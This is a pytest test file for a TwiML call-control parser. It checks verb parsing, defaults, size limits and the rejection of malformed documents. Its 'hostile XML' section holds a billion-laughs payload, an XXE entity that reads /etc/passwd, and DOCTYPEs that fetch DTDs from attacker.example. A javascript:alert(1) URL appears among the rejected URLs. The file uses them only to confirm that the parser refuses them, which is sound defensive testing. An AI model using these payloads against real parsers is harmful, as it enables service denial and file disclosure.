"""TwiML parsing: every verb Trunkline runs, its defaults, and the documents it refuses."""

from __future__ import annotations

import pytest

from trunkline.signaling.twiml import (
    DEFAULT_DIAL_TIMEOUT,
    MAX_DIAL_TARGETS,
    MAX_DIAL_TIMEOUT,
    MAX_DOCUMENT_BYTES,
    MAX_PAUSE_LENGTH,
    MAX_VERBS,
    Dial,
    ErrorCode,
    Hangup,
    Number,
    Pause,
    Redirect,
    Reject,
    Sip,
    TwimlError,
    Unsupported,
    Verb,
    parse_twiml,
)

DOC_URL = "https://dr.example.com/app/index.xml?trunk=1"


def parse(body: str, url: str | None = DOC_URL) -> list[Verb]:
    return parse_twiml(
        f'<?xml version="1.0" encoding="UTF-8"?>\n<Response>{body}</Response>', url=url
    )


def one(body: str, url: str | None = DOC_URL) -> Verb:
    verbs = parse(body, url)
    assert len(verbs) == 1
    return verbs[0]


def refused(document: str | bytes, code: ErrorCode, url: str | None = DOC_URL) -> TwimlError:
    with pytest.raises(TwimlError) as caught:
        parse_twiml(document, url=url)
    assert caught.value.code is code, caught.value
    return caught.value


def refused_body(body: str, code: ErrorCode) -> TwimlError:
    return refused(f"<Response>{body}</Response>", code)


# --- good documents -----------------------------------------------------------------------------


def test_a_recovery_document_parses_in_order() -> None:
    verbs = parse(
        """
        <Pause length="2"/>
        <Dial timeout="20" callerId="+14155550100" action="/after-dial" method="GET">
            <Number>+14155550101</Number>
            <Sip username="pbx" password="s3cret">sip:backup@pbx.example.com;transport=tls</Sip>
        </Dial>
        <Redirect>next.xml</Redirect>
        <Reject reason="busy"/>
        <Hangup/>
        """
    )
    assert verbs == [
        Pause(2),
        Dial(
            (
                Number("+14155550101"),
                Sip("sip:backup@pbx.example.com;transport=tls", "pbx", "s3cret"),
            ),
            timeout=20,
            caller_id="+14155550100",
            action="https://dr.example.com/after-dial",
            method="GET",
        ),
        Redirect("https://dr.example.com/app/next.xml", "POST"),
        Reject("busy"),
        Hangup(),
    ]


def test_an_empty_response_has_no_verbs() -> None:
    assert parse_twiml("<Response/>") == []
    assert parse_twiml("<Response>\n  \n</Response>") == []


def test_bytes_str_and_other_encodings() -> None:
    latin1 = '<?xml version="1.0" encoding="ISO-8859-1"?><Response><Hangup/></Response>'
    assert parse_twiml(latin1.encode("latin-1")) == [Hangup()]
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><Response><Hangup/></Response>'
    assert parse_twiml(utf16.encode("utf-16")) == [Hangup()]
    assert parse_twiml(latin1) == [Hangup()]  # a str is already decoded: its declaration is moot


def test_a_byte_order_mark_and_leading_whitespace_are_accepted() -> None:
    assert parse_twiml(b"\xef\xbb\xbf<Response><Hangup/></Response>") == [Hangup()]
    assert parse_twiml('\n  <?xml version="1.0"?><Response><Hangup/></Response>') == [Hangup()]


def test_comments_processing_instructions_and_cdata() -> None:
    verbs = parse(
        "<!-- fallback --><?app x?><Dial><Number><![CDATA[+14155550101]]></Number></Dial>"
    )
    assert verbs == [Dial((Number("+14155550101"),))]


def test_predefined_and_character_references_are_expanded() -> None:
    assert one("<Redirect>/next?a=1&amp;b=2</Redirect>") == Redirect(
        "https://dr.example.com/next?a=1&b=2"
    )
    assert one("<Dial>&#43;14155550101</Dial>") == Dial((Number("+14155550101"),))


def test_unknown_attributes_are_ignored() -> None:
    assert one('<Dial record="true" answerOnBridge="true" ringTone="us">+14155550101</Dial>') == (
        Dial((Number("+14155550101"),))
    )


# --- Dial ---------------------------------------------------------------------------------------


def test_dial_defaults() -> None:
    dial = one("<Dial><Number>+14155550101</Number></Dial>")
    assert dial == Dial((Number("+14155550101"),), DEFAULT_DIAL_TIMEOUT, None, None, "POST")
    assert DEFAULT_DIAL_TIMEOUT == 30


def test_dial_with_bare_text_dials_a_number() -> None:
    assert one("<Dial> +14155550101 </Dial>") == Dial((Number("+14155550101"),))


def test_number_punctuation_is_dropped() -> None:
    assert one("<Dial>+1 (415) 555-0101</Dial>") == Dial((Number("+14155550101"),))
    assert one("<Dial><Number>+49.30.1234567</Number></Dial>") == Dial((Number("+49301234567"),))


def test_dial_rings_several_targets() -> None:
    dial = one(
        "<Dial><Number>+14155550101</Number><Number>+14155550102</Number>"
        "<Sip>sips:agent@[2001:db8::1]:5061</Sip></Dial>"
    )
    assert isinstance(dial, Dial)
    assert dial.targets == (
        Number("+14155550101"),
        Number("+14155550102"),
        Sip("sips:agent@[2001:db8::1]:5061"),
    )


@pytest.mark.parametrize(("text", "expected"), [("1", 1), ("45", 45), ("600", 600), ("601", 600)])
def test_dial_timeout_is_capped_at_twilios_maximum(text: str, expected: int) -> None:
    assert one(f'<Dial timeout="{text}">+14155550101</Dial>') == Dial(
        (Number("+14155550101"),), timeout=expected
    )
    assert MAX_DIAL_TIMEOUT == 600


@pytest.mark.parametrize("text", ["0", "-5", "ten", "1.5", "", "٣"])
def test_dial_timeout_must_be_a_positive_integer(text: str) -> None:
    error = refused_body(
        f'<Dial timeout="{text}">+14155550101</Dial>', ErrorCode.DIAL_INVALID_TIMEOUT
    )
    assert "timeout=" in error.message


def test_dial_caller_id_must_be_e164() -> None:
    error = refused_body(
        '<Dial callerId="4155550100">+14155550101</Dial>', ErrorCode.DIAL_INVALID_CALLER_ID
    )
    assert "'4155550100'" in error.message


def test_dial_toward_sip_only_accepts_a_sip_user_as_caller_id() -> None:
    dial = one('<Dial callerId="front-desk"><Sip>sip:a@pbx.example.com</Sip></Dial>')
    assert isinstance(dial, Dial)
    assert dial.caller_id == "front-desk"
    refused_body(
        '<Dial callerId="front-desk"><Number>+14155550101</Number></Dial>',
        ErrorCode.DIAL_INVALID_CALLER_ID,
    )
    refused_body(
        '<Dial callerId="a b"><Sip>sip:a@pbx.example.com</Sip></Dial>',
        ErrorCode.DIAL_INVALID_CALLER_ID,
    )


def test_dial_action_is_resolved_against_the_document_url() -> None:
    dial = one('<Dial action="../status?x=1">+14155550101</Dial>')
    assert isinstance(dial, Dial)
    assert dial.action == "https://dr.example.com/status?x=1"
    dial = one('<Dial action="http://other.example.org/a">+14155550101</Dial>')
    assert isinstance(dial, Dial)
    assert dial.action == "http://other.example.org/a"


@pytest.mark.parametrize(
    "text",
    ["415-555-0101", "004915112345678", "+0123456789", "+1415555010199999", "sip:a@b.example.com"],
)
def test_dial_refuses_what_is_not_e164(text: str) -> None:
    error = refused_body(f"<Dial><Number>{text}</Number></Dial>", ErrorCode.DIAL_INVALID_NUMBER)
    assert "E.164" in error.message


def test_a_sip_uri_as_bare_text_hints_at_sip() -> None:
    error = refused_body("<Dial>sip:a@pbx.example.com</Dial>", ErrorCode.DIAL_INVALID_NUMBER)
    assert "<Sip>" in error.message


def test_dial_without_a_target_is_refused() -> None:
    refused_body("<Dial/>", ErrorCode.DIAL_INVALID_NUMBER)
    refused_body('<Dial timeout="10">  </Dial>', ErrorCode.DIAL_INVALID_NUMBER)


def test_dial_with_text_and_nouns_is_refused() -> None:
    refused_body(
        "<Dial>+14155550100<Number>+14155550101</Number></Dial>", ErrorCode.SCHEMA_VALIDATION
    )


def test_dial_has_at_most_ten_targets() -> None:
    numbers = "".join(f"<Number>+1415555{i:04d}</Number>" for i in range(MAX_DIAL_TARGETS))
    dial = one(f"<Dial>{numbers}</Dial>")
    assert isinstance(dial, Dial)
    assert len(dial.targets) == MAX_DIAL_TARGETS
    refused_body(
        f"<Dial>{numbers}<Number>+14155559999</Number></Dial>", ErrorCode.SCHEMA_VALIDATION
    )


@pytest.mark.parametrize(
    "uri",
    [
        "tel:+14155550101",
        "sip://pbx.example.com",
        "sip:",
        "sip:user:pw@pbx.example.com",
        "sips:a@pbx.example.com;transport=udp",
        "sip:a@pbx.example.com;edge=atlantis",
    ],
)
def test_sip_refuses_what_is_not_a_sip_uri(uri: str) -> None:
    refused_body(f"<Dial><Sip>{uri}</Sip></Dial>", ErrorCode.INVALID_DIAL_SIP)


def test_sip_credentials_go_together_and_the_password_is_not_shown() -> None:
    refused_body(
        '<Dial><Sip username="u">sip:a@pbx.example.com</Sip></Dial>', ErrorCode.INVALID_DIAL_SIP
    )
    sip = Sip("sip:a@pbx.example.com", "u", "s3cret")
    assert "s3cret" not in repr(sip)


@pytest.mark.parametrize("noun", ["Client", "Conference", "Queue", "Sim", "Application"])
def test_dial_nouns_trunkline_cannot_dial_are_unsupported(noun: str) -> None:
    verb = one(f"<Dial><{noun}>x</{noun}></Dial>")
    assert isinstance(verb, Unsupported)
    assert verb.verb == "Dial"
    assert not verb.audio
    assert f"<Dial><{noun}> is not supported" in verb.message


def test_an_unknown_dial_noun_is_refused() -> None:
    error = refused_body("<Dial><number>+14155550101</number></Dial>", ErrorCode.SCHEMA_VALIDATION)
    assert "write <Number>" in error.message
    refused_body("<Dial><Phone>+14155550101</Phone></Dial>", ErrorCode.SCHEMA_VALIDATION)


def test_nouns_take_no_children() -> None:
    refused_body("<Dial><Number>+1415<b/>5550101</Number></Dial>", ErrorCode.SCHEMA_VALIDATION)


# --- Reject, Hangup, Pause, Redirect -------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "verb"),
    [
        ("<Reject/>", Reject("rejected")),
        ('<Reject reason="rejected"/>', Reject("rejected")),
        ('<Reject reason="busy"/>', Reject("busy")),
        ("<Hangup/>", Hangup()),
        ("<Pause/>", Pause(1)),
        ('<Pause length="5"/>', Pause(5)),
        (f'<Pause length="{MAX_PAUSE_LENGTH + 1}"/>', Pause(MAX_PAUSE_LENGTH)),
        (
            "<Redirect>https://b.example.net/x</Redirect>",
            Redirect("https://b.example.net/x", "POST"),
        ),
        ('<Redirect method="get">/x</Redirect>', Redirect("https://dr.example.com/x", "GET")),
        ('<Redirect method="POST">x</Redirect>', Redirect("https://dr.example.com/app/x", "POST")),
        ("<Redirect>?step=2</Redirect>", Redirect("https://dr.example.com/app/index.xml?step=2")),
    ],
)
def test_verbs_and_their_defaults(body: str, verb: Verb) -> None:
    assert one(body) == verb


def test_reject_reason_must_be_busy_or_rejected() -> None:
    error = refused_body('<Reject reason="nope"/>', ErrorCode.SCHEMA_VALIDATION)
    assert "'busy' or 'rejected'" in error.message


@pytest.mark.parametrize("text", ["0", "-1", "1s", "2.5"])
def test_pause_length_must_be_a_positive_integer(text: str) -> None:
    refused_body(f'<Pause length="{text}"/>', ErrorCode.PAUSE_INVALID_LENGTH)


@pytest.mark.parametrize(
    "body", ["<Hangup>now</Hangup>", "<Reject><Hangup/></Reject>", "<Pause>3</Pause>"]
)
def test_verbs_without_content_refuse_content(body: str) -> None:
    refused_body(body, ErrorCode.SCHEMA_VALIDATION)


@pytest.mark.parametrize(
    "body",
    [
        "<Redirect/>",
        "<Redirect>  </Redirect>",
        "<Redirect>ftp://files.example.com/x</Redirect>",
        "<Redirect>https://</Redirect>",
        "<Redirect>https://a.example.com/a b</Redirect>",
        "<Redirect>https://[::1/x</Redirect>",
        '<Dial action="javascript:alert(1)">+14155550101</Dial>',
    ],
)
def test_urls_must_be_http_or_https(body: str) -> None:
    refused_body(body, ErrorCode.INVALID_URL)


def test_a_relative_url_needs_the_document_url() -> None:
    error = refused(
        "<Response><Redirect>/next</Redirect></Response>", ErrorCode.INVALID_URL, url=None
    )
    assert "relative URL" in error.message
    assert parse_twiml("<Response><Redirect>http://a.example.com/n</Redirect></Response>") == [
        Redirect("http://a.example.com/n")
    ]


def test_methods_are_get_or_post() -> None:
    refused_body('<Redirect method="PUT">/x</Redirect>', ErrorCode.SCHEMA_VALIDATION)
    refused_body(
        '<Dial method="DELETE" action="/a">+14155550101</Dial>', ErrorCode.SCHEMA_VALIDATION
    )


# --- Play, Say and other verbs Trunkline cannot run -----------------------------------------------


@pytest.mark.parametrize("verb", ["Play", "Say"])
def test_play_and_say_are_unsupported_audio(verb: str) -> None:
    parsed = one(f"<{verb}>https://dr.example.com/closed.mp3</{verb}>")
    assert isinstance(parsed, Unsupported)
    assert parsed.verb == verb
    assert parsed.audio
    assert f"cannot play audio yet, so <{verb}> is not supported" in parsed.message


@pytest.mark.parametrize(
    "verb", ["Gather", "Record", "Enqueue", "Connect", "Start", "Pay", "Refer"]
)
def test_other_twilio_verbs_are_unsupported(verb: str) -> None:
    parsed = one(f"<{verb}><Say>press 1</Say></{verb}>")
    assert parsed == Unsupported(
        verb, f"<{verb}> on line 2: <{verb}> is not supported by Trunkline"
    )


# --- bad documents ------------------------------------------------------------------------------


def test_an_unknown_verb_is_refused_with_12200() -> None:
    error = refused_body("<Dance/>", ErrorCode.SCHEMA_VALIDATION)
    assert error.message == "<Dance> on line 1: <Dance> is not a TwiML verb"
    assert str(error) == f"12200 Schema validation warning: {error.message}"


def test_twiml_is_case_sensitive() -> None:
    error = refused_body("<hangup/>", ErrorCode.SCHEMA_VALIDATION)
    assert "case-sensitive: write <Hangup>" in error.message


def test_the_root_must_be_response() -> None:
    refused("<response><Hangup/></response>", ErrorCode.ROOT_NOT_RESPONSE)
    refused("<html><body>502 Bad Gateway</body></html>", ErrorCode.ROOT_NOT_RESPONSE)


def test_text_outside_verbs_is_refused() -> None:
    refused("<Response>Hello<Hangup/></Response>", ErrorCode.SCHEMA_VALIDATION)


@pytest.mark.parametrize(
    "document",
    [
        "",
        "   ",
        "<Response>",
        "<Response><Hangup></Response>",
        "<Response><Hangup/></Response><Response/>",
        "<Response><Dial>+1415&5550101</Dial></Response>",
        "<Response><Pause length=5/></Response>",
        "Hello, world",
        '{"verb": "Dial"}',
        b"\xff\xfe\x00garbage",
    ],
)
def test_malformed_xml_is_a_parse_failure(document: str | bytes) -> None:
    refused(document, ErrorCode.DOCUMENT_PARSE_FAILURE)


def test_a_parse_failure_says_where() -> None:
    error = refused("<Response>\n<Hangup>\n</Response>", ErrorCode.DOCUMENT_PARSE_FAILURE)
    assert error.message.startswith("line 3, column 3: mismatched tag")


def test_a_document_over_64_kib_is_refused() -> None:
    padding = " " * (MAX_DOCUMENT_BYTES - len("<Response><Hangup/></Response>"))
    assert parse_twiml(f"<Response>{padding}<Hangup/></Response>") == [Hangup()]
    error = refused(f"<Response>{padding} <Hangup/></Response>", ErrorCode.RESPONSE_TOO_LARGE)
    assert str(MAX_DOCUMENT_BYTES) in error.message


def test_the_size_limit_counts_bytes_not_characters() -> None:
    text = "é" * (MAX_DOCUMENT_BYTES // 2)  # two bytes each in UTF-8
    refused(f"<Response><!--{text}--></Response>", ErrorCode.RESPONSE_TOO_LARGE)


def test_too_many_verbs_are_refused() -> None:
    assert len(parse("<Pause/>" * MAX_VERBS)) == MAX_VERBS
    refused_body("<Pause/>" * (MAX_VERBS + 1), ErrorCode.SCHEMA_VALIDATION)


def test_too_many_elements_or_too_deep_are_refused() -> None:
    refused_body("<Gather>" + "<Say/>" * 1000 + "</Gather>", ErrorCode.SCHEMA_VALIDATION)
    refused_body("<Gather>" * 10 + "</Gather>" * 10, ErrorCode.SCHEMA_VALIDATION)


# --- hostile XML --------------------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Response><Redirect>https://a.example.com/&lol9;</Redirect></Response>"""


@pytest.mark.parametrize(
    "document",
    [
        BILLION_LAUGHS,
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Response><Dial>&x;</Dial></Response>',
        '<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><Response/>',
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><Response/>',
        "<!DOCTYPE Response><Response/>",
    ],
)
def test_a_doctype_is_refused_before_any_entity_is_read(document: str) -> None:
    error = refused(document, ErrorCode.DOCUMENT_PARSE_FAILURE)
    assert "DOCTYPE is not allowed" in error.message


def test_an_undeclared_entity_is_a_parse_failure() -> None:
    error = refused("<Response><Dial>&x;</Dial></Response>", ErrorCode.DOCUMENT_PARSE_FAILURE)
    assert "undefined entity" in error.message


def test_error_codes_carry_twilios_titles() -> None:
    assert ErrorCode.DOCUMENT_PARSE_FAILURE.title == "Document parse failure"
    assert int(ErrorCode.RESPONSE_TOO_LARGE) == 11750
    assert all(code.title for code in ErrorCode)
